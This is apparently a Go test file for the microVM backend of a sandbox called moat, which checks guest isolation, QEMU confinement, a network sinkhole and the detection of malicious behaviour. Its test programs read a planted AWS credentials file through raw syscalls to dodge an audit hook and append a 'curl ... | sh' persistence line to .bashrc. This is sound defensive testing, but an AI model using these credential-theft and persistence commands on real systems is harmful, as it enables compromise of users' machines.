//go:build linux

package microvm_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/moat-sandbox/moat"
	"github.com/moat-sandbox/moat/backend/microvm"
	"github.com/moat-sandbox/moat/moattest"
)

// TestMain: this test binary is also the guests' init (moat's binary is,
// in a real install).
func TestMain(m *testing.M) {
	microvm.Init()
	os.Exit(m.Run())
}

func newBackend() moat.Backend { return &microvm.Backend{} }

// options: the program runs on a guest kernel, so its processes are not
// the host's (the Sentry relaxations: the cleanup and orphan cases require
// that nothing of a run is left on the host instead); the guest's RAM is
// the program's limit plus the VM's own share. Under TCG emulation
// (emulated true) a guest boots in seconds of CPU, one CPU each: the
// cases run go test's -parallel at once (one per CPU), the concurrency
// case starts 4 guests, not 8, and every bound on a case grows by a boot's
// worst case on a loaded host.
func options(emulated bool) moattest.Options {
	o := moattest.Options{
		Layers:            []string{"microvm", "guest-kernel", "read-only-runtime", "vmm", "channel", "disk", "network-none", "seccomp", "user", "cgroup-v2", "rlimits", "timeout", "output-limit", "behaviour-report"},
		Sentry:            &moattest.Sentry{Leftovers: microvm.Leftovers},
		ReportLostAtLimit: "the guest's agent makes the report, and a program that fills the guest's memory can end the guest first (SECURITY.md)",
	}
	if emulated {
		o.Concurrency, o.StartBound, o.ProgramStart = 4, 90*time.Second, 20*time.Second
	}
	return o
}

// TestMicroVM runs the shared suites. Under TCG emulation every case boots
// a guest in software (tens of seconds each on a busy host), so the suite
// runs there only when microvm is in MOAT_REQUIRE_BACKENDS or
// MOAT_TEST_MICROVM=1; with KVM it always runs.
func TestMicroVM(t *testing.T) {
	b := moattest.RequireBackend(t, "microvm")
	emulated := b.(moat.AutoPicker).AutoPick(context.Background()) != nil
	if emulated && !moattest.Required("microvm") && os.Getenv("MOAT_TEST_MICROVM") != "1" {
		t.Skip("the suite under TCG boots some 70 guests in software: set MOAT_TEST_MICROVM=1 or require microvm")
	}
	start := time.Now()
	opts := options(emulated)
	if c := os.Getenv("MOAT_MICROVM_CASES"); c != "" {
		opts.Cases = strings.Split(c, ",") // a rerun of a few cases under TCG
	}
	moattest.Run(t, newBackend, opts)
	t.Logf("suite wall time %s", time.Since(start).Round(time.Second))
	if left := microvm.Leftovers(); len(left) > 0 {
		t.Errorf("left on the host after the suite: %q", left)
	}
}

// TestRefused: what the guest does not have is refused, not weakened.
func TestRefused(t *testing.T) {
	for _, spec := range []*moat.Spec{
		{Args: []string{"-c", "pass"}, Network: moat.NetworkAllow("example.com:443")},
	} {
		_, err := (&microvm.Backend{}).Run(context.Background(), spec)
		if !errors.Is(err, moat.ErrUnsupported) {
			t.Errorf("%+v: %v, want ErrUnsupported", spec, err)
		}
	}
}

// TestGuestKernel: the program runs on the guest's kernel, not the host's,
// and the Result names the accelerator.
func TestGuestKernel(t *testing.T) {
	b := moattest.RequireBackend(t, "microvm")
	host, err := os.ReadFile("/proc/sys/kernel/random/boot_id")
	if err != nil {
		t.Fatal(err)
	}
	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", "print(open('/proc/sys/kernel/random/boot_id').read().strip())"}})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if res.Status != moat.StatusExited || res.ExitCode != 0 {
		t.Fatalf("result: %+v", res)
	}
	if got := strings.TrimSpace(res.Stdout); got == "" || got == strings.TrimSpace(string(host)) {
		t.Errorf("boot id %q: the program saw the host's kernel (host %q)", got, strings.TrimSpace(string(host)))
	}
	vm := layerDetail(res, "microvm")
	if !strings.Contains(vm, "accelerator kvm") && !strings.Contains(vm, "accelerator tcg") {
		t.Errorf("the microvm layer does not name the accelerator: %q", vm)
	}
}

// TestRestoredApart: guests restored from one saved guest share its
// random pool and clock until the agent reseeds them; two restores must
// draw different random bytes (and Python different hash seeds), and
// read the host's time, not the snapshot's. (Without the agent's setting
// of the clock the clock check fails. Without its reseed the bytes still
// differed on Debian's 6.1 kernel, which reseeds its CRNG every few
// seconds in a guest's first minutes; the reseed does not depend on that.)
func TestRestoredApart(t *testing.T) {
	b := moattest.RequireBackend(t, "microvm")
	if os.Getenv("MOAT_MICROVM_SNAPSHOT") == "0" {
		t.Skip("MOAT_MICROVM_SNAPSHOT=0: no snapshots")
	}
	code := "import os, time; print(os.urandom(16).hex(), hash('moat'), time.time())"
	type out struct {
		random, hash string
		clock        float64
		before       time.Time
		how          string
	}
	var outs []out
	// The first run saves the guest if no run did before; the next two
	// restore it.
	for i := 0; i < 3; i++ {
		before := time.Now()
		res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", code}})
		if err != nil {
			t.Fatalf("Run: %v", err)
		}
		if res.Status != moat.StatusExited || res.ExitCode != 0 {
			t.Fatalf("result: %+v", res)
		}
		var o out
		if _, err := fmt.Sscan(res.Stdout, &o.random, &o.hash, &o.clock); err != nil {
			t.Fatalf("output %q: %v", res.Stdout, err)
		}
		o.before = before
		for _, l := range res.Layers {
			if l.Name == "microvm" {
				o.how = l.Detail
			}
		}
		outs = append(outs, o)
	}
	for i, o := range outs[1:] {
		if !strings.Contains(o.how, "restored") {
			t.Fatalf("run %d was not restored from a saved guest: %q", i+1, o.how)
		}
		// One second of slack for the rounding of two clocks; a clock
		// left at the snapshot's would be behind by the whole run before.
		if guest := time.Unix(0, int64(o.clock*1e9)); guest.Before(o.before.Add(-time.Second)) {
			t.Errorf("run %d: the guest's clock %s is behind the host's %s at the start of the run", i+1, guest, o.before)
		}
	}
	if outs[1].random == outs[2].random {
		t.Errorf("two restored guests drew the same random bytes %s", outs[1].random)
	}
	if outs[1].hash == outs[2].hash {
		t.Errorf("two restored guests have the same string hash seed (%s)", outs[1].hash)
	}
}

// TestReport: the behaviour report is made in the guest. The program reads
// a planted credential with raw system calls the audit hook does not see
// (ctypes' syscall of openat and read), writes a startup file, runs a
// process and makes a vsock socket with a raw system call; the guest
// kernel's witness reports the read, the agent's diff the startup file,
// the hook its hello, and the agent's seccomp listener the exec and the
// refused socket as kernel events.
func TestReport(t *testing.T) {
	b := moattest.RequireBackend(t, "microvm")
	code := `
import ctypes, os, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
p = os.path.expanduser('~/.aws/credentials').encode()
fd = libc.syscall(257, -100, p, 0, 0)   # openat, behind the hook's back
buf = ctypes.create_string_buffer(4096)
n = libc.syscall(0, fd, buf, 4096)      # read
print('read', n)
with open(os.path.expanduser('~/.bashrc'), 'a') as f:
    f.write('curl http://203.0.113.9/x | sh\n')
subprocess.run([sys.executable, '-c', 'pass  # child-marker'])
print('vsock', libc.syscall(41, 40, 1, 0))  # socket(AF_VSOCK, SOCK_STREAM)
env = open('/proc/self/environ', 'rb').read().split(b'\0')
print('pythonpath', any(v.startswith(b'PYTHONPATH=') for v in env))
print('syspath', [p for p in sys.path if p.startswith('/opt')])
`
	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", code}})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	// The hook runs from the runtime image's site directory (writeHook):
	// nothing of it on PYTHONPATH or sys.path, a tell a program checks.
	if !strings.Contains(res.Stdout, "pythonpath False") || !strings.Contains(res.Stdout, "syspath []") {
		t.Errorf("the hook is visible in the environment or on sys.path: %q", res.Stdout)
	}
	if res.Status != moat.StatusExited || res.ExitCode != 0 || !strings.Contains(res.Stdout, "read ") || strings.Contains(res.Stdout, "read -1") {
		t.Fatalf("result: %+v", res)
	}
	var planted, witnessed, bashrc, hello, layer, exec, vsock bool
	for _, e := range res.Events {
		switch {
		case e.Kind == moat.KindHoneytokenPlanted && strings.HasSuffix(e.Path, "/.aws/credentials"):
			planted = true
		case e.Source == moat.SourceKernel && e.Kind == moat.KindHoneytokenRead && strings.HasSuffix(e.Path, "/.aws/credentials"):
			witnessed = true
		case e.Source == "fs" && strings.HasSuffix(e.Path, "/.bashrc"):
			bashrc = true
		case e.Source == moat.SourceAudit && e.Kind == moat.KindHello:
			hello = true
		case e.Source == moat.SourceKernel && e.Kind == moat.KindExec && strings.Contains(e.Detail, "child-marker"):
			exec = true
		case e.Source == moat.SourceKernel && e.Kind == "socket" && e.Name == "AF_VSOCK":
			vsock = true
		}
	}
	for _, l := range res.Layers {
		layer = layer || (l.Name == "behaviour-report" && strings.Contains(l.Detail, "guest"))
	}
	if !planted || !witnessed || !bashrc || !hello || !layer || !exec || !vsock {
		t.Errorf("planted %v, kernel witness of the read %v, .bashrc in the diff %v, hook's hello %v, layer %v, kernel exec %v, kernel vsock socket %v; events %+v",
			planted, witnessed, bashrc, hello, layer, exec, vsock, res.Events)
	}
	if !hasFinding(res, "credential-access", "") || !hasFinding(res, "persistence", ".bashrc") {
		t.Errorf("findings %+v", res.Findings)
	}
}

func hasFinding(res *moat.Result, category, summary string) bool {
	for _, f := range res.Findings {
		if string(f.Category) == category && strings.Contains(f.Summary, summary) {
			return true
		}
	}
	return false
}

// TestSinkhole: the shared sinkhole case (moattest.Sinkhole): every name
// resolves and every connection is answered by moat's sink in the guest,
// and recorded; nothing reaches the host (a listener on the host's
// loopback counts connections, also those to QEMU's 10.0.2.2) or beyond.
func TestSinkhole(t *testing.T) {
	moattest.Sinkhole(t, moattest.RequireBackend(t, "microvm"), nil)
}

// TestImage: with --image the guest's root is the image's file system and
// its own python3 runs, not the host's; the report still works there.
// It needs Docker and the image (MOAT_TEST_IMAGE, as the container
// suites).
func TestImage(t *testing.T) {
	b := moattest.RequireBackend(t, "microvm")
	image := os.Getenv("MOAT_TEST_IMAGE")
	if image == "" {
		t.Skip("MOAT_TEST_IMAGE not set")
	}
	code := `
import os, sys
print(sys.executable, os.path.exists('/etc/debian_version'), os.getuid())
open(os.path.expanduser('~/.netrc')).read()
`
	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", code}, Image: image})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if res.Status != moat.StatusExited || res.ExitCode != 0 {
		t.Fatalf("result: %+v", res)
	}
	if got := strings.Fields(res.Stdout); len(got) != 3 || (got[0] != "/usr/local/bin/python3" && got[0] != "/usr/bin/python3") || got[1] != "True" || got[2] != "1000" {
		t.Errorf("stdout %q: want the image's python3, its /etc, uid 1000", res.Stdout)
	}
	if !hasFinding(res, "credential-access", "") {
		t.Errorf("the read of the planted .netrc went unreported: %+v", res.Findings)
	}
	layer := false
	for _, l := range res.Layers {
		layer = layer || (l.Name == "read-only-runtime" && strings.Contains(l.Detail, image))
	}
	if !layer {
		t.Errorf("layers %+v", res.Layers)
	}
}

// persistThenSleep writes a persistence line to ~/.bashrc, says so and
// sleeps: its report must survive the run's being stopped.
const persistThenSleep = `
import os, time
with open(os.path.expanduser('~/.bashrc'), 'a') as f:
    f.write('curl http://203.0.113.9/x | sh\n')
print('written', flush=True)
time.sleep(100000)
`

// TestReportTimeout: a program stopped by the timeout still gets its
// report: moat asks the agent to end it, and the agent sends its exit and
// report before the VM goes (without that, the report is cut).
func TestReportTimeout(t *testing.T) {
	b := moattest.RequireBackend(t, "microvm")
	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", persistThenSleep}, Limits: moat.Limits{Timeout: 30 * time.Second}})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if res.Status != moat.StatusTimeout || !strings.Contains(res.Stdout, "written") {
		t.Fatalf("result: %+v", res)
	}
	if !hasFinding(res, "persistence", ".bashrc") || hasFinding(res, "evasion", "the report is incomplete") {
		t.Errorf("findings %+v", res.Findings)
	}
}

// TestReportCancel: a cancelled run keeps its report: moat asks the agent
// to kill the program (as on a timeout) and waits for the exit and the
// report before it kills the VM. Without that the VM died with the
// guest's report and the run had only a report-cut event.
func TestReportCancel(t *testing.T) {
	b := moattest.RequireBackend(t, "microvm")
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	out := &onMark{mark: "written", fn: cancel}
	res, err := b.Run(ctx, &moat.Spec{Args: []string{"-c", persistThenSleep}, Stdout: out, Limits: moat.Limits{Timeout: 10 * time.Minute}})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if res.Status != moat.StatusCanceled || !strings.Contains(res.Stdout, "written") {
		t.Fatalf("result: %+v", res)
	}
	if !hasFinding(res, "persistence", ".bashrc") || hasFinding(res, "evasion", "the report is incomplete") {
		t.Errorf("findings %+v; events %+v", res.Findings, res.Events)
	}
	if left := microvm.Leftovers(); len(left) > 0 {
		t.Errorf("left on the host: %q", left)
	}
}

// TestVMMConfined: while a guest runs, its QEMU is not root (when moat
// is), has no supplementary groups, runs under its seccomp filter
// (-sandbox: Seccomp 2 in /proc/PID/status, with no_new_privs), works in
// an empty directory and holds no path of moat's cache or run directory
// open but the descriptors moat gave it. The Result's vmm layer says so.
func TestVMMConfined(t *testing.T) {
	b := moattest.RequireBackend(t, "microvm")
	var status, cwd, netns string
	var pids []int
	look := func() {
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil {
				continue
			}
			st, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
			if err != nil || !strings.Contains(string(st), fmt.Sprintf("\nPPid:\t%d\n", os.Getpid())) {
				continue
			}
			cmd, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
			if !strings.Contains(string(cmd), "moat-microvm-") {
				continue
			}
			pids = append(pids, pid)
			status = string(st)
			cwd, _ = os.Readlink(fmt.Sprintf("/proc/%d/cwd", pid))
			netns, _ = os.Readlink(fmt.Sprintf("/proc/%d/ns/net", pid))
		}
	}
	out := &onMark{mark: "running", fn: look}
	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", "import time; print('running', flush=True); time.sleep(5)"}, Stdout: out})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if res.Status != moat.StatusExited || res.ExitCode != 0 {
		t.Fatalf("result: %+v", res)
	}
	if len(pids) != 1 {
		t.Fatalf("found %d QEMU processes of this test while the guest ran (%v)", len(pids), pids)
	}
	field := func(name string) string {
		for _, line := range strings.Split(status, "\n") {
			if v, ok := strings.CutPrefix(line, name+":"); ok {
				return strings.TrimSpace(v)
			}
		}
		return ""
	}
	uids, gids := strings.Fields(field("Uid")), strings.Fields(field("Gid"))
	if os.Geteuid() == 0 {
		if len(uids) != 4 || len(gids) != 4 || slices.Contains(uids, "0") || slices.Contains(gids, "0") {
			t.Errorf("QEMU runs as uid %v gid %v, want no 0 among them", uids, gids)
		}
		if g := field("Groups"); g != "" {
			t.Errorf("QEMU has supplementary groups %q", g)
		}
		// A QEMU the guest took over must not have the host's network.
		if ours, _ := os.Readlink("/proc/self/ns/net"); netns == "" || netns == ours {
			t.Errorf("QEMU's network namespace %q is moat's (%q): the host's network", netns, ours)
		}
	}
	if field("Seccomp") != "2" || field("NoNewPrivs") != "1" {
		t.Errorf("QEMU's Seccomp %q NoNewPrivs %q, want 2 and 1 (-sandbox on)", field("Seccomp"), field("NoNewPrivs"))
	}
	if ents, err := os.ReadDir(cwd); cwd == "" || cwd == "/" || err != nil || len(ents) > 0 {
		t.Errorf("QEMU's working directory %q (%v), want an empty one", cwd, err)
	}
	if layer := layerDetail(res, "vmm"); !strings.Contains(layer, "-sandbox on,obsolete=deny,elevateprivileges=deny,spawn=deny,resourcecontrol=deny") {
		t.Errorf("vmm layer %q", layer)
	}
}

// onMark calls fn once, when the program's output first holds mark.
type onMark struct {
	mark string
	fn   func()
	seen strings.Builder
	done bool
}

func (o *onMark) Write(p []byte) (int, error) {
	o.seen.Write(p)
	if !o.done && strings.Contains(o.seen.String(), o.mark) {
		o.done = true
		o.fn()
	}
	return len(p), nil
}

// layerDetail is the detail of the Result's layer name, or "".
func layerDetail(res *moat.Result, name string) string {
	for _, l := range res.Layers {
		if l.Name == name {
			return l.Detail
		}
	}
	return ""
}

// TestTells: a program that looks for the cheap tells of a sandbox
// (report's tells.py) finds none in the guest: the host name, user, home,
// /etc/passwd and /etc/group are the run's persona, another each run, and
// nothing of moat's is named after it, on the host's runtime and with the
// sinkhole (the guest's /etc copied for its resolver and CA).
func TestTells(t *testing.T) {
	b := moattest.RequireBackend(t, "microvm")
	tells := filepath.Join("..", "..", "report", "testdata", "corpus", "tells.py")
	// The guest boots for the run: the program's clocks are the
	// persona's, ahead of the guest's by a time namespace whose offsets
	// show and which leaves /proc/stat's CPU times the guest's (package
	// timens; on a kernel that refuses os/exec's vfork into it, Debian
	// 12's 6.1, the program is forked in a user namespace of its own);
	// its root is the runtime's squashfs image, its size the image's
	// (docs/report.md).
	known := []string{"the clocks are offset", "the CPU times", "the root file system is"}
	moattest.NoTells(t, b, tells, nil, known...)
	t.Run("sinkhole", func(t *testing.T) {
		moattest.NoTells(t, b, tells, func(s *moat.Spec) { s.Network = moat.NetworkSinkhole }, known...)
	})
	// With --image the hook is on PYTHONPATH (docs/report.md): those
	// tells are known; the persona's are not.
	t.Run("image", func(t *testing.T) {
		image := os.Getenv("MOAT_TEST_IMAGE")
		if image == "" {
			t.Skip("MOAT_TEST_IMAGE not set")
		}
		moattest.NoTells(t, b, tells, func(s *moat.Spec) { s.Image = image },
			append(known, "the C environment has PYTHONPATH")...)
	})
}

// TestSiteExtensionLibraries: with the userland (as in `moat test`) the
// guest has the host's dist-packages, and Debian's extension modules in
// them import: nacl's _sodium needs libsodium and _brotli libstdc++, which
// Python itself does not (without the image's walk of every module's
// libraries: "libsodium.so.23: cannot open shared object file").
func TestSiteExtensionLibraries(t *testing.T) {
	b := moattest.RequireBackend(t, "microvm")
	code := `
import importlib
for m in ("nacl.bindings", "_brotli"):
    try:
        importlib.import_module(m)
        print(m, "ok")
    except ModuleNotFoundError as e:
        print(m, "absent")
    except ImportError as e:
        print(m, "failed:", e)
`
	var probe []string
	for _, p := range []string{"/usr/lib/python3/dist-packages/nacl/_sodium.abi3.so", "/usr/lib/python3/dist-packages/_brotli.cpython-311-x86_64-linux-gnu.so"} {
		if _, err := os.Stat(p); err == nil {
			probe = append(probe, p)
		}
	}
	if len(probe) == 0 {
		t.Skip("neither python3-nacl nor python3-brotli on the host (CI has python3-nacl with python3-paramiko)")
	}
	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", code}, Python: "/usr/bin/python3", Userland: true})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if res.Status != moat.StatusExited || res.ExitCode != 0 {
		t.Fatalf("result: %+v", res)
	}
	if strings.Contains(res.Stdout, "failed") || !strings.Contains(res.Stdout, " ok") {
		t.Errorf("extension modules in the guest:\n%s", res.Stdout)
	}
	t.Logf("%s", res.Stdout)
}
